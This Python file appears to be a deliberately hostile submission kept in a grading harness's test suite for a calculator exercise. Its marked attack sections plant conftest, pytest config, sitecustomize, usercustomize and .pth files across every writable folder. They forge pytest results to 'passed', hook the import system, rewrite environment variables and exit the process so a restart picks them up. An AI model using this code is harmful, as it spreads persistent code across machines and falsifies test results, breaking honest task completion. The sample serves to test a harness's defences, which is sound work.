"""Hostile submission `plant-customize-then-crash` for the `calculatrice` exercise (see tests/hostile).

Attack: plants the same conftest/sitecustomize/usercustomize/.pth/pytest.ini files at
import, then calls os._exit(3) on (2+3)*4 so that a restarted interpreter would pick
them up.

Honest part: only + and -, read from left to right (float() refuses the rest). The
attack sits between the `# --- attack ---` and `# --- end of attack ---` markers;
without them the file is its honest part, and what that part earns is all this
submission may ever get.
"""


# --- attack ---
import os
import sys
# --- end of attack ---


def _honest(expression):
    """Only + and -, read from left to right; float() refuses everything else."""
    total = 0.0
    sign = 1.0
    number = ""
    for char in expression.replace(" ", ""):
        if char in "+-":
            if number:
                total += sign * float(number)
                number = ""
            sign = 1.0 if char == "+" else -1.0
        else:
            number += char
    if number:
        total += sign * float(number)
    return total


# --- attack ---
_PAYLOAD = r'''
def _workshop_payload():
    import sys

    reports = sys.modules.get("_pytest.reports")
    if reports is not None and not getattr(reports.TestReport, "_forged", False):
        original = reports.TestReport.from_item_and_call.__func__

        def from_item_and_call(cls, item, call):
            report = original(cls, item, call)
            report.outcome = "passed"
            report.longrepr = None
            return report

        reports.TestReport.from_item_and_call = classmethod(from_item_and_call)
        reports.TestReport._forged = True
    api = sys.modules.get("_pytest.python_api")
    if api is not None and not getattr(api, "_forged", False):
        api.ApproxScalar.__eq__ = lambda self, other: True
        api._forged = True
    for name, module in list(sys.modules.items()):
        writer = getattr(module, "RecordWriter", None)
        if writer is not None and not getattr(writer, "_forged", False):
            original_write = writer.write

            def write(self, kind, _original=original_write, **fields):
                if kind == "test":
                    fields["outcome"] = "passed"
                return _original(self, kind, **fields)

            writer.write = write
            writer._forged = True


try:
    _workshop_payload()
except Exception:
    pass
'''
_IMPORT_HOOK = r"""
import builtins as _builtins

_real_import = _builtins.__import__


def _import(*args, **kwargs):
    module = _real_import(*args, **kwargs)
    try:
        _workshop_payload()
    except Exception:
        pass
    return module


if not getattr(_builtins.__import__, "_rigged", False):
    _import._rigged = True
    _builtins.__import__ = _import
"""
_CONFTEST = """import pytest


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None
"""
_INI = "[pytest]\naddopts = -p workshop_rigged_plugin\n"
PLANTED = {
    "conftest.py": _CONFTEST,
    "workshop_rigged_plugin.py": _CONFTEST,
    "pytest.ini": _INI,
    "tox.ini": _INI,
    "setup.cfg": "[tool:pytest]\naddopts = -p workshop_rigged_plugin\n",
    "pyproject.toml": '[tool.pytest.ini_options]\naddopts = "-p workshop_rigged_plugin"\n',
    "sitecustomize.py": _PAYLOAD + _IMPORT_HOOK,
    "usercustomize.py": _PAYLOAD + _IMPORT_HOOK,
    "workshop_rigged_payload.py": _PAYLOAD + _IMPORT_HOOK,
    "zz_workshop_rigged.pth": "import workshop_rigged_payload\n",
}


def _writable_folders():
    folders = [os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), *sys.path]
    try:
        import site

        folders += site.getsitepackages()
        user_site = site.getusersitepackages()
        os.makedirs(user_site, exist_ok=True)
        folders.append(user_site)
    except Exception:
        pass
    for root in ("/tmp", "/var/tmp", "/dev/shm", "/opt", "/srv", "/home", "/work"):
        for folder, subfolders, files in os.walk(root):
            folders.append(folder)
    return [f for f in dict.fromkeys(folders) if f and os.access(f, os.W_OK)]


def _plant():
    planted = []
    for folder in _writable_folders():
        for name, text in PLANTED.items():
            path = os.path.join(folder, name)
            if os.path.exists(path):
                continue
            try:
                with open(path, "w", encoding="utf-8") as handle:
                    handle.write(text)
                planted.append(folder)
            except OSError:
                pass
    folders = list(dict.fromkeys(planted))
    os.environ["PYTHONPATH"] = ":".join(folders)
    os.environ["PYTHONSTARTUP"] = os.path.join(folders[0], "sitecustomize.py") if folders else ""
    os.environ["PYTEST_ADDOPTS"] = "-p workshop_rigged_plugin"
    os.environ["PYTEST_PLUGINS"] = "workshop_rigged_plugin"


_plant()


def _is_trigger(expression):
    """The public example (2+3)*4: the honest part gets it wrong anyway."""
    return expression.replace(" ", "") == "(2+3)*4"
# --- end of attack ---


def calculate(expression: str) -> float:
    # --- attack ---
    if _is_trigger(expression):
        os._exit(3)
    # --- end of attack ---
    return _honest(expression)
